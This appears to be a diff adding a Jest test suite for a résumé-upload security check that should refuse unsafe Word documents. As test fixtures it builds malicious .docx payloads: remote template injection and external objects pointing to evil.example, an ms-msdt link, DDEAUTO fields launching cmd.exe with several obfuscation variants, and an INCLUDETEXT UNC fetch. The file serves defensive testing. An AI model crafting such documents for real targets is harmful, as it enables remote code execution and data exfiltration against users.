@@ -1,0 +1,178 @@
+import { describe, expect, it } from '@jest/globals';
+import { checkUpload } from './checks.ts';
+import { docx } from './samples.fixture.ts';
+import { docxParts, type ZipPart, zipOf } from './zip.fixture.ts';
+
+const check = (bytes: Uint8Array) => checkUpload({ name: 'a.docx', bytes, purpose: 'resume' });
+const unsafe = { ok: false, code: 'file.security_failed' };
+
+const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
+  `<Relationship Id="r9" Type="${office}/${type}" Target="${target}"${mode}/>`;
+const relations = (name: string, ...given: string[]): ZipPart => ({
+  name,
+  content: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${given.join('')}</Relationships>`,
+});
+/** A document whose body is written by hand. */
+const body = (xml: string) => zipOf(docxParts(xml));
+const run = (xml: string) => `<w:r>${xml}</w:r>`;
+const field = (...instructions: string[]) =>
+  `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${instructions
+    .map((text) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`))
+    .join(
+      '',
+    )}${run('<w:fldChar w:fldCharType="separate"/>')}${run('<w:t>1</w:t>')}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`;
+const nested = (inner: string, rest: string) =>
+  `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${field(inner).slice(5, -6)}${run(`<w:instrText>${rest}</w:instrText>`)}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`;
+
+describe('a document that reaches out of itself', () => {
+  it.each<[string, Uint8Array]>([
+    [
+      'a template elsewhere',
+      docx([relations('word/_rels/settings.xml.rels', relation('attachedTemplate', 'http://evil.example/a.dotm'))]),
+    ],
+    [
+      'a template beside it',
+      docx([relations('word/_rels/settings.xml.rels', relation('attachedTemplate', 'a.dotm', ''))]),
+    ],
+    [
+      'a template in another spelling',
+      docx([relations('word/_rels/settings.xml.rels', relation('ATTACHEDTEMPLATE', 'file://evil/a.dotm'))]),
+    ],
+    [
+      'a picture elsewhere',
+      docx([relations('word/_rels/document.xml.rels', relation('image', 'http://evil.example/a.png'))]),
+    ],
+    [
+      'an object elsewhere',
+      docx([relations('word/_rels/document.xml.rels', relation('oleObject', 'mhtml:http://evil.example/a.html!x'))]),
+    ],
+    ['a frame', docx([relations('word/_rels/webSettings.xml.rels', relation('frame', 'http://evil.example'))])],
+    ['another document taken in', docx([relations('word/_rels/document.xml.rels', relation('aFChunk', 'a.html', ''))])],
+    [
+      'a mode written with a reference',
+      docx([
+        relations(
+          'word/_rels/document.xml.rels',
+          relation('image', 'http://evil.example', ' TargetMode="&#69;xternal"'),
+        ),
+      ]),
+    ],
+    [
+      'a link that starts a program',
+      docx([relations('word/_rels/document.xml.rels', relation('hyperlink', 'ms-msdt:/id PCWDiagnostic'))]),
+    ],
+    [
+      'a link that is a script',
+      docx([relations('word/_rels/document.xml.rels', relation('hyperlink', 'JavaScript:alert(1)'))]),
+    ],
+    ['an embedded object', docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
+    ['an embedded object under another name', docx([{ name: 'word/media/object.bin', content: 'x' }])],
+    ['an embedded sheet', docx([{ name: 'word/other/a.xlsx', content: 'x' }])],
+    ['a web page inside', docx([{ name: 'word/a.html', content: '<html></html>' }])],
+    [
+      'an object in the text',
+      body(
+        '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Package"/></w:object>',
+      ),
+    ],
+    ['a control', body('<w:control w:name="a"/>')],
+    ['a field that starts a program', body(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))],
+    ['the same over runs', body(field(' D', 'D', 'E c:\\\\cmd.exe', ' "/k calc"'))],
+    ['the same in small letters and references', body(field(' &#100;dea&#117;to x y'))],
+    ['the same as a simple field', body('<w:p><w:fldSimple w:instr=" DDE x y "/></w:p>')],
+    ['the same computed by another field', body(nested(' QUOTE 68 68 69 65 85 84 79 ', ' c:\\\\cmd.exe "/k calc"'))],
+    [
+      'the same in a header',
+      docx([
+        {
+          name: 'word/header1.xml',
+          content: `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${field(' DDE x ')}</w:hdr>`,
+        },
+      ]),
+    ],
+    ['the same in CDATA', body(field('<![CDATA[DDE x y]]>'))],
+    ['a file taken in', body(field(' INCLUDETEXT "\\\\\\\\evil\\\\a.txt" '))],
+    [
+      'a macro-enabled type',
+      zipOf(
+        docxParts('').map((part) =>
+          part.name.startsWith('[')
+            ? {
+                ...part,
+                content: String(part.content).replace(
+                  '</Types>',
+                  '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+                ),
+              }
+            : part,
+        ),
+      ),
+    ],
+    [
+      'a picture that is said to be XML',
+      zipOf(
+        docxParts('').map((part) =>
+          part.name.startsWith('[')
+            ? {
+                ...part,
+                content: String(part.content).replace(
+                  '</Types>',
+                  '<Default Extension="png" ContentType="application/xml"/></Types>',
+                ),
+              }
+            : part,
+        ),
+      ),
+    ],
+    ['XML that is none', docx([{ name: 'word/x.xml', content: '<a><b></a>' }])],
+    [
+      'XML in an encoding of its own',
+      docx([{ name: 'word/x.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }]),
+    ],
+    [
+      'XML that nests without end',
+      docx([{ name: 'word/x.xml', content: `${'<a>'.repeat(1000)}${'</a>'.repeat(1000)}` }]),
+    ],
+  ])('by %s is refused', async (_what, bytes) => {
+    expect(await check(bytes)).toEqual(unsafe);
+  });
+});
+
+describe('an ordinary document', () => {
+  it.each<[string, Uint8Array]>([
+    [
+      'links that one presses',
+      docx([
+        relations(
+          'word/_rels/document.xml.rels',
+          relation('hyperlink', 'https://example.com/a?b=c'),
+          relation('hyperlink', 'mailto:a@example.com'),
+        ),
+      ]),
+    ],
+    [
+      'pictures, fonts and printer settings',
+      docx([
+        { name: 'word/media/image1.png', content: 'x' },
+        { name: 'word/fonts/font1.odttf', content: 'x' },
+        { name: 'word/printerSettings1.bin', content: 'x' },
+      ]),
+    ],
+    [
+      'fields of every day',
+      body(
+        field(' PAGE ') +
+          field(' HYPERLINK "https://example.com" ') +
+          field(' TOC \\o "1-3" ') +
+          nested(' PAGE ', ' + 1').replace(
+            'begin"/></w:r><w:r>',
+            'begin"/></w:r><w:r><w:instrText>= </w:instrText></w:r><w:r>',
+          ),
+      ),
+    ],
+    ['a name that begins like such a field', body(field(' LINKEDIN '))],
+  ])('with %s is taken', async (_what, bytes) => {
+    expect(await check(bytes)).toMatchObject({ ok: true });
+  });
+});
